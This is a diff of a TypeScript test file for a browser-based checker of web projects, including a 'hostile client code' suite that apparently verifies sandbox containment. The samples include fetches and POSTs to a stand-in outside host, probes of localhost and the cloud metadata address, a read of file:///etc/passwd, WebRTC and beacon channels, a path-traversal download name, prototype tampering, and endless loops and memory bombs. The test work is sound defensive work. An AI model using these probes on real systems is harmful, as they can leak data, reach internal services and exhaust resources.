@@ -1,3 +1,5 @@
+import { createSocket } from 'node:dgram'
+import { type AddressInfo, createServer } from 'node:net'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { openScratchCluster, type ScratchCluster } from '@/lib/domains/evidence/scratch/cluster'
 import type { Step } from '@/lib/domains/spec/asks'
@@ -69,18 +71,258 @@ const ASKS = [
   { items: ['page:/chart'], scenarios: scenario(...DRAWS) },
 ]
 
+/** A board that listens to the mouse, as libraries for dragging do, and shows where a card would fall. */
+const BY_POINTER = `'use client'
+import { useRef, useState } from 'react'
+import { moveCard } from '../lib/actions'
+type Card = { id: string; title: string; stage: string }
+const STAGES = { todo: 'To do', doing: 'Doing', done: 'Done' }
+export function Columns({ cards }: { cards: Card[] }) {
+  const held = useRef<{ id: string; x: number; y: number; isMoved: boolean } | null>(null)
+  const [over, setOver] = useState('')
+  const stageAt = (x: number, y: number) =>
+    document.elementsFromPoint(x, y).map((one) => (one as HTMLElement).dataset.stage).find(Boolean) ?? ''
+  return (
+    <div style={{ display: 'flex', gap: 16 }}
+      onPointerMove={(event) => {
+        if (held.current === null) return
+        held.current.isMoved ||= Math.hypot(event.clientX - held.current.x, event.clientY - held.current.y) > 5
+        setOver(stageAt(event.clientX, event.clientY))
+      }}
+      onPointerUp={(event) => {
+        const card = held.current
+        held.current = null
+        setOver('')
+        const stage = stageAt(event.clientX, event.clientY)
+        if (card?.isMoved && stage !== '') void moveCard(card.id, stage)
+      }}>
+      {Object.entries(STAGES).map(([stage, name]) => (
+        <div key={stage} className="column" style={{ width: 240, opacity: over === stage ? 0.7 : 1 }}>
+          <h2>{name}</h2>
+          <div data-stage={stage} style={{ minHeight: 200, border: '1px solid' }}>
+            {cards.filter((card) => card.stage === stage).map((card) => (
+              <article key={card.id} style={{ userSelect: 'none' }}
+                onPointerDown={(event) => {
+                  held.current = { id: card.id, x: event.clientX, y: event.clientY, isMoved: false }
+                }}>{card.title}</article>
+            ))}
+          </div>
+        </div>
+      ))}
+    </div>
+  )
+}`
+
 describe('what only client code does', () => {
-  test('is proven in a browser, with its controls', async () => {
+  test('is proven in a browser, and each of it is missed', async () => {
     const project = board.withAsks(ASKS).withBrowser(checksBrowser)
     const report = await project.verify(cluster)
     expect(foundIn(report)).toEqual([])
     expect(toldOf(report.asks)).toEqual(['a1 proven', 'a2 proven', 'a3 proven', 'a4 proven', 'a5 proven'])
-    expect(report.asks?.flatMap(({ scenarios }) => scenarios.map(({ by }) => by))).toEqual(
-      Array.from({ length: 5 }, () => 'browser'),
+    const players = report.asks?.flatMap(({ scenarios }) => scenarios.map(({ by }) => by))
+    expect(players).toEqual(Array.from({ length: 5 }, () => 'browser'))
+    expect(toldOf(await project.control(cluster, report.asks ?? []))).toEqual([
+      'a1 proven (held)',
+      'a2 proven (held)',
+      'a3 proven (held)',
+      'a4 proven (held)',
+      'a5 proven (held)',
+    ])
+  })
+
+  test('is unproven without a browser, which is said', async () => {
+    const project = board.withAsks(ASKS)
+    const none = [
+      'a1 unproven (Dragging needs a browser. There is no browser here.)',
+      'a2 unproven (What the page shows is made by components/list.tsx in a browser. There is no browser here.)',
+      'a3 unproven (The button “Count” needs a browser: its page alone does not say what it does. There is no browser here.)',
+      'a4 unproven (The button “New card” needs a browser: its page alone does not say what it does. There is no browser here.)',
+      'a5 unproven (What the page shows is made by components/chart.tsx in a browser. There is no browser here.)',
+    ]
+    expect(toldOf((await project.verify(cluster)).asks)).toEqual(none)
+    expect(toldOf((await project.withBrowser(() => Promise.resolve(null)).verify(cluster)).asks)).toEqual(none)
+    const broken = project.withAsks(ASKS.slice(0, 1)).withBrowser(() => Promise.resolve(NO_CHROMIUM))
+    const [told] = toldOf((await broken.verify(cluster)).asks)
+    expect(told).toContain('a1 unproven (It was not played in a browser to its end:')
+  })
+
+  test('is dragged by the mouse as well', async () => {
+    const project = board
+      .with({ 'components/columns.tsx': BY_POINTER })
+      .withAsks([{ scenarios: scenario(...DRAGS) }])
+      .withBrowser(checksBrowser)
+    const report = await project.verify(cluster)
+    expect([foundIn(report), toldOf(report.asks)]).toEqual([[], ['a1 proven']])
+  })
+
+  test('fails where it only seems to be there', async () => {
+    const project = board
+      .replace('components/columns.tsx', 'await moveCard(id, stage)', 'void stage')
+      .replace('components/ask.tsx', 'await addCard(form)', 'void form')
+      .replace('components/game.tsx', 'setClicks(clicks + 1)', 'setClicks(clicks)')
+      .replace('public/rain.json', '80', '8')
+      .withAsks(ASKS)
+      .withBrowser(checksBrowser)
+    const report = await project.verify(cluster)
+    expect(toldOf(report.asks)).toEqual(['a1 failed', 'a2 proven', 'a3 failed', 'a4 failed', 'a5 failed'])
+    expect(foundIn(report).map((line) => line.replace(/^.*?fails at /, ''))).toEqual(
+      expect.arrayContaining([
+        'step 7 of 7: Ana sees “Paint #1” beside “Done”. It stands there, but not beside “Done”.',
+        expect.stringMatching(/^step 4 of 10: Visitor sees “Counted 2 times”\. The page “Game” says: “Count Counted 0/),
+        expect.stringMatching(/^step 9 of 9: Ana sees “Sand #1”\./),
+        expect.stringMatching(/^step 2 of 3: Visitor sees “July: 80 mm”\./),
+      ]),
     )
-    console.log(
-      report.asks?.flatMap(({ scenarios }) => scenarios.map(({ ms }) => ms)),
-      report.checks.find(({ check }) => check === 'behaviour')?.ms,
-    )
+  })
+
+  test('is unproven where what is asked is not missed', async () => {
+    const project = board
+      .replace('components/list.tsx', "await database().from('cards').insert({ title })", 'keep(title)')
+      .replace('components/list.tsx', 'export function List', `${KEEPS}\nexport function List`)
+      .replace('components/list.tsx', 'setCards(data ?? [])', 'setCards(data === null ? [] : kept())')
+      .withAsks([{ items: ['entity:cards'], scenarios: scenario(...LISTS) }])
+      .withBrowser(checksBrowser)
+    const report = await project.verify(cluster)
+    expect(toldOf(report.asks)).toEqual(['a1 proven'])
+    expect(toldOf(await project.control(cluster, report.asks ?? []))).toEqual([
+      'a1 unproven (It also passes without the rows of cards.)',
+    ])
+  })
+})
+
+const NO_CHROMIUM = { executable: '/usr/bin/false', shown: [] }
+
+/** Keeps what was written in the browser of whoever wrote it. */
+const KEEPS = `
+const kept = (): Card[] => JSON.parse(localStorage.getItem('cards') ?? '[]')
+const keep = (title: string) => localStorage.setItem('cards', JSON.stringify([...kept(), { id: title, title }]))`
+
+const HOST = 'http://stranger.example'
+
+/** Client code that wants out, or to go on for ever; what it got it writes on its page. */
+const hostile = (port: number): Readonly<Record<string, string>> => ({
+  asks: `const said: string[] = []
+    const tell = (name: string, work: Promise<unknown>) =>
+      work.then(() => said.push(name + ' went out'), () => said.push(name + ' was refused')).then(() => setSaid([...said]))
+    tell('host', fetch('${HOST}/fetch'))
+    tell('opaque', fetch('${HOST}/opaque', { method: 'POST', mode: 'no-cors', body: 'x' }))
+    tell('secure', fetch('https://stranger.example/'))
+    tell('machine', fetch('http://127.0.0.1:${port}/', { mode: 'no-cors' }))
+    tell('metadata', fetch('http://169.254.169.254/', { mode: 'no-cors' }))
+    tell('file', fetch('file:///etc/passwd'))
+    tell('socket', new Promise((yes, no) => {
+      const socket = new WebSocket('ws://127.0.0.1:${port}/')
+      socket.onopen = yes
+      socket.onclose = no
+    }))
+    void navigator.serviceWorker.register('/worker.js').catch(() => undefined)
+    navigator.sendBeacon('http://127.0.0.1:${port}/beacon', 'x')
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${port}', 'stun:192.0.2.1:3478'] },
+      { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' }] })
+    peer.createDataChannel('x')
+    peer.onicecandidate = ({ candidate }) => {
+      if (/srflx|relay/.test(candidate?.candidate ?? '')) tell('peer', Promise.resolve())
+    }
+    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
+  windows: `window.open('${HOST}/window')
+    alert('Hello from an alert')
+    confirm('Really?')
+    addEventListener('beforeunload', (event) => event.preventDefault())
+    const link = document.createElement('a')
+    link.href = URL.createObjectURL(new Blob(['x']))
+    link.download = '../../etc/passwd'
+    document.body.append(link)
+    link.click()
+    setSaid(['all tried'])`,
+  leaves: `location.href = '${HOST}/away'`,
+  loops: 'for (;;) ;',
+  alerts: "for (;;) alert('Again')",
+  grows: 'const all: unknown[] = []; for (;;) all.push(new Uint8Array(50_000_000).fill(1))',
+  floods: "for (let at = 0; at < 2_000; at++) void fetch('/rain.json?' + at); setSaid(['all asked'])",
+  draws: `const more = () => {
+      for (let at = 0; at < 2_000; at++) document.body.append(Object.assign(document.createElement('p'), { textContent: at }))
+      requestAnimationFrame(more)
+    }
+    more()`,
+  lies: `Element.prototype.getAttribute = () => 'x'
+    String.prototype.replaceAll = () => 'Sold out'
+    Array.prototype.join = () => 'Sold out'
+    JSON.stringify = () => 'Sold out'
+    document.querySelector = () => null
+    setSaid(['nothing'])`,
+})
+
+const hostilePage = (code: string): string => `'use client'
+  import { useState } from 'react'
+  export default function Page() {
+    const [said, setSaid] = useState<string[]>([])
+    return <main><h1>Hostile</h1><button onClick={() => { ${code} }}>Try</button><ul>{said.map((one) => <li key={one}>{one}</li>)}</ul></main>
+  }`
+
+describe('hostile client code', () => {
+  /** Whatever reaches this machine is counted. */
+  let reached = 0
+  let port = 0
+  const server = createServer((socket) => {
+    reached++
+    socket.destroy()
+  })
+  const datagrams = createSocket('udp4')
+  let project: AskedProject
+  beforeAll(async () => {
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    port = (server.address() as AddressInfo).port
+    datagrams.on('message', () => reached++)
+    await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve))
+    const pages = Object.entries(hostile(port)).map(([name, code]) => [`app/${name}/page.tsx`, hostilePage(code)])
+    project = board.with(Object.fromEntries(pages)).withBrowser(checksBrowser)
+  })
+  afterAll(() => {
+    expect(reached).toBe(0)
+    server.close()
+    datagrams.close()
+  })
+
+  const tries = (name: string, ...then: Step[]): { scenarios: ReturnType<typeof scenario> } => ({
+    scenarios: scenario({ do: 'visit', path: `/${name}` }, { do: 'press', button: 'Try' }, ...then),
+  })
+  const ordinary = { scenarios: scenario(...PLAYS) }
+
+  test('reaches nobody', async () => {
+    const refused = ['host', 'opaque', 'secure', 'machine', 'metadata', 'file', 'socket']
+    const asks = [
+      tries('asks', ...refused.map((name): Step => ({ do: 'see', text: `${name} was refused` })), {
+        do: 'not_see',
+        text: 'went out',
+      }),
+      tries('windows', { do: 'see', text: 'all tried' }, { do: 'see', text: 'Hello from an alert' }),
+      tries('leaves', { do: 'see', text: 'x' }),
+      tries('lies', { do: 'not_see', text: 'Sold out' }, { do: 'see', text: 'nothing' }),
+      ordinary,
+    ]
+    const report = await project.withAsks(asks).verify(cluster)
+    expect(foundIn(report)).toEqual([])
+    expect(toldOf(report.asks)).toEqual([
+      'a1 proven',
+      'a2 proven',
+      'a3 unproven (It leads to another site, stranger.example.)',
+      'a4 proven',
+      'a5 proven',
+    ])
+  })
+
+  test.each([
+    ['loops', /did not answer in time/],
+    ['alerts', /did not answer in time/],
+    ['grows', /took more memory than they may|did not answer in time|ended/],
+    ['floods', /./],
+    ['draws', /too large to be read|did not answer in time|took more memory/],
+  ])('ends within bounds when it %s, and others are played after it', async (name, why) => {
+    const asks = [tries(name, { do: 'see', text: name === 'floods' ? 'all asked' : 'x' }), ordinary]
+    const report = await project.withAsks(asks).verify(cluster)
+    expect(foundIn(report)).toEqual([])
+    const [first, second] = report.asks ?? []
+    expect(first?.why ?? first?.status).toMatch(why)
+    expect(second?.status).toBe('proven')
   })
 })
